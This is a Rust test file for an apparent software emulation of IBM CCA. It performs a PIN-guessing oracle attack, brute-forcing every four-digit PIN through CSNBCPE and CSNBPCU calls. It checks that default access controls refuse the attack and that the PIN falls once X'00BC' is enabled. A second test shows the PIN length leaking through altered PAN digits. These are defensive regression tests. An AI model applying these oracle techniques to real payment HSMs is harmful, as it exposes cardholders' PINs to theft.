//! The PIN-guessing oracle of docs/CSNBPCU.md ("PIN-guessing oracles"), performed.
//!
//! The attacker holds a victim's encrypted PIN block under an OPINENC key that carries the
//! CPINENC bit, and may call CSNBCPE and CSNBPCU. CSNBCPE encrypts each guessed PIN under the
//! same key; CSNBPCU turns the victim's block and each guess into a PIN change message that
//! depends only on the recovered PIN (the issuer keys and key generation data are the
//! attacker's choice and fixed), so the guess whose message equals the victim's is the PIN.
//! ISO-3's random fill does not help: the message never depends on the fill.
//!
//! Each run is a fresh process (its own state directory, SOFTCCA_TRACE=errors): with the
//! shipped defaults the same calls are refused, 8/90 naming X'00BC'; with only X'00BC' turned
//! on in acp.conf they recover the PIN. So the default is what stops the attack. The victims
//! are tests/data/pinblocks.txt cases (psec 1.3.0 blocks, `cryptography` encryption).

mod common;
use common::pcu_call::{profile, visapcu1};
use common::verbs::{TEST_MK, token};
use common::*;

use std::process::Command;

use softcca::cv::{ControlVector, DkyUsage, templates};

/// tests/vectors/README.md issuer master keys and key generation data (any fixed values would do).
const MAC_MDK: &str = "FEDCBA98765432100123456789ABCDEF";
const ENC_MDK: &str = "11111111111111112222222222222222";
const KGD: &str = "3456789012345601FFFF";
/// The victims: one ISO-0 and one ISO-3 block, 4-digit PINs.
const VICTIMS: [&str; 2] = ["iso-0-0", "iso-3-0"];

fn cpe(key: &[u8; 64], pin: &str, prof: &[u8; 24], pan: &[u8; 12]) -> ((i32, i32), [u8; 8]) {
    let (mut rc, mut rs) = (-1, -1);
    let mut k = *key;
    let mut n = 1;
    let mut r = rules(&["ENCRYPT"]);
    let mut clear = [b' '; 16];
    clear[..pin.len()].copy_from_slice(pin.as_bytes());
    let (mut p, mut pn, mut seq) = (*prof, *pan, 99_999);
    let mut out = [0u8; 8];
    unsafe {
        softcca::ffi::clearpin::CSNBCPE(
            &mut rc,
            &mut rs,
            std::ptr::null_mut(),
            std::ptr::null_mut(),
            k.as_mut_ptr(),
            &mut n,
            r.as_mut_ptr(),
            clear.as_mut_ptr(),
            p.as_mut_ptr(),
            pn.as_mut_ptr(),
            &mut seq,
            out.as_mut_ptr(),
        )
    };
    ((rc, rs), out)
}

/// VISAPCU1 on `block` under `pin_key`; the message, or the codes of a refusal.
fn pcu(
    pin_key: &[u8; 64],
    block: [u8; 8],
    prof: &[u8; 24],
    pan: &[u8; 12],
) -> Result<String, (i32, i32)> {
    let auth = token(
        TEST_MK,
        &hex(MAC_MDK),
        &ControlVector::dkygenky(0, DkyUsage::DMac),
    );
    let enc = token(
        TEST_MK,
        &hex(ENC_MDK),
        &ControlVector::dkygenky(0, DkyUsage::DMPin),
    );
    visapcu1(auth, enc, *pin_key, block, prof, pan, hex(KGD))
}

/// The attack, in the child process. Prints one line per victim:
/// `RESULT <id> recovered <pin> <calls>` or `RESULT <id> refused <rc> <rs> <calls>`.
#[test]
#[ignore]
fn child_attack() {
    if std::env::var_os("SOFTCCA_ORACLE_CHILD").is_none() {
        return;
    }
    load_mk(&hex(TEST_MK));
    let all = cases("pinblocks.txt");
    for id in VICTIMS {
        let v = all.iter().find(|c| c.id() == id).unwrap();
        let key = token(
            TEST_MK,
            &v.hex("pin_key"),
            &ControlVector::from_template(templates::OPINENC, true),
        );
        let prof = profile(v.text("format_ascii"), None);
        let pan: [u8; 12] = arr(v.text("pan_ascii").as_bytes());
        let mut calls = 1;
        let target = match pcu(&key, arr(&v.hex("enc_block")), &prof, &pan) {
            Ok(m) => m,
            Err((rc, rs)) => {
                println!("RESULT {id} refused {rc} {rs} {calls}");
                continue;
            }
        };
        let mut line = format!("RESULT {id} notfound 0 0 {calls}");
        for g in 0..10_000 {
            let guess = format!("{g:04}");
            let (codes, block) = cpe(&key, &guess, &prof, &pan);
            assert_eq!(codes, (0, 0), "CSNBCPE {guess}");
            calls += 2;
            match pcu(&key, block, &prof, &pan) {
                Ok(m) if m == target => {
                    line = format!("RESULT {id} recovered {guess} {calls}");
                    break;
                }
                Ok(_) => {}
                Err((rc, rs)) => {
                    line = format!("RESULT {id} refused {rc} {rs} {calls}");
                    break;
                }
            }
        }
        println!("{line}");
    }
}

/// Runs the attack in a fresh process and state directory; `enable_00bc` appends
/// `X'00BC' on` to the acp.conf written with the defaults. Returns (stdout, stderr).
fn run_attack(tag: &str, enable_00bc: bool) -> (String, String) {
    let dir = temp_state(tag);
    if enable_00bc {
        // The directory with its defaults, made by a first (refused) run of the same child.
        let (out, _) = run_child(&dir);
        assert!(out.contains("refused"), "{out}");
        set_acp(&dir, 0x00BC, true);
    }
    let r = run_child(&dir);
    let _ = std::fs::remove_dir_all(&dir);
    r
}

fn run_child(dir: &std::path::Path) -> (String, String) {
    let out = Command::new(std::env::current_exe().unwrap())
        .args([
            "--ignored",
            "--exact",
            "child_attack",
            "--test-threads=1",
            "--nocapture",
        ])
        .env("SOFTCCA_ORACLE_CHILD", "1")
        .env("SOFTCCA_HOME", dir)
        .env("SOFTCCA_TRACE", "errors")
        .env("SOFTCCA_ACP_RECHECK_MS", "0")
        .env_remove("CSUDESLD")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "child failed:\n{stdout}\n{stderr}");
    (stdout, stderr)
}

fn results(stdout: &str) -> Vec<Vec<String>> {
    let r: Vec<Vec<String>> = stdout
        .lines()
        .filter_map(|l| l.find("RESULT ").map(|i| &l[i + 7..]))
        .map(|l| l.split(' ').map(str::to_string).collect())
        .collect();
    assert_eq!(r.len(), VICTIMS.len(), "{stdout}");
    r
}

#[test]
fn defaults_refuse_the_opinenc_oracle() {
    let (stdout, stderr) = run_attack("oracle-default", false);
    for r in results(&stdout) {
        assert_eq!(
            r[1], "refused",
            "{}: the PIN fell with the defaults: {r:?}",
            r[0]
        );
        assert_eq!((r[2].as_str(), r[3].as_str()), ("8", "90"), "{r:?}");
    }
    // The refusal names the point (trace text of the 8/90).
    let refusals: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("softcca: CSNBPCU rc=8 rs=90"))
        .collect();
    assert_eq!(refusals.len(), VICTIMS.len(), "{stderr}");
    for l in refusals {
        assert!(l.contains("X'00BC'"), "{l}");
    }
    assert!(
        !stderr.contains("softcca: CSNBCPE"),
        "CSNBCPE itself is not what stops it: {stderr}"
    );
}

#[test]
fn with_00bc_on_the_same_calls_recover_the_pin() {
    let (stdout, _) = run_attack("oracle-00bc", true);
    let all = cases("pinblocks.txt");
    for r in results(&stdout) {
        let v = all.iter().find(|c| c.id() == r[0]).unwrap();
        assert_eq!(r[1], "recovered", "{r:?}");
        assert_eq!(r[2], v.text("pin_ascii"), "{r:?}");
        let calls: u32 = r[3].parse().unwrap();
        let guesses: u32 = v.text("pin_ascii").parse::<u32>().unwrap() + 1;
        assert_eq!(calls, 1 + 2 * guesses, "{r:?}");
    }
}

/// docs/CSNBPCU.md, "The PIN length leaks through altered PAN data": changing PAN digit j
/// (XOR difference with its high bit set) fails exactly over the fill, so the first failing
/// digit is L - 2, for ISO-0, ISO-3 and VISA-4, IPINENC keys, the defaults; X'0313' does not
/// change it, X'039F' changes only the code, and with X'0055' off a PIN digit's change
/// succeeds only when the digit stays decimal.
#[test]
fn altered_pan_data_tells_the_pin_length() {
    let _g = common::verbs::setup("oracle-pan");
    load_mk(&hex(TEST_MK));
    let home = std::path::PathBuf::from(std::env::var_os("SOFTCCA_HOME").unwrap());
    let all = cases("pinblocks.txt");
    let ipinenc = ControlVector::from_template(templates::IPINENC, true);
    let mut checked = 0;
    for (acp, on) in [
        (None, true),
        (Some(0x0313), true),
        (Some(0x039F), true),
        (Some(0x0055), false),
    ] {
        if let Some(a) = acp {
            set_acp(&home, a, on);
        }
        for v in all.iter().filter(|c| {
            matches!(c.text("format_ascii"), "ISO-0" | "ISO-3" | "VISA-4") && c.text("src") != "s9"
        }) {
            let key = token(TEST_MK, &v.hex("pin_key"), &ipinenc);
            let prof = profile(v.text("format_ascii"), None);
            let pan: [u8; 12] = arr(v.text("pan_ascii").as_bytes());
            let block: [u8; 8] = arr(&v.hex("enc_block"));
            let pin: Vec<u8> = v.text("pin_ascii").bytes().map(|b| b - b'0').collect();
            assert!(
                pcu(&key, block, &prof, &pan).is_ok(),
                "{}: unaltered",
                v.id()
            );
            let mut first_failure = None;
            for j in 0..12 {
                let mut altered = pan;
                let p = pan[j] - b'0';
                altered[j] = if p < 8 { b'8' } else { b'0' };
                let delta = p ^ (altered[j] - b'0');
                assert!(delta & 8 != 0);
                let got = pcu(&key, block, &prof, &altered);
                let over_pin = j + 2 < pin.len();
                let want_ok = over_pin && (acp != Some(0x0055) || (pin[j + 2] ^ delta) <= 9);
                assert_eq!(
                    got.is_ok(),
                    want_ok,
                    "{} {acp:?} PAN digit {j}: {got:?}",
                    v.id()
                );
                if let Err(codes) = got {
                    let want = if acp == Some(0x039F) {
                        (8, 2514)
                    } else {
                        (8, 407)
                    };
                    assert_eq!(codes, want, "{} {acp:?} PAN digit {j}", v.id());
                    if !over_pin && first_failure.is_none() {
                        first_failure = Some(j);
                    }
                }
            }
            // What the attacker reads off: the first fill position, hence L.
            assert_eq!(first_failure.map(|j| j + 2), Some(pin.len()), "{}", v.id());
            checked += 1;
        }
        if let Some(a) = acp {
            set_acp(&home, a, !on);
        }
    }
    assert!(checked >= 4 * 9, "{checked}");
}
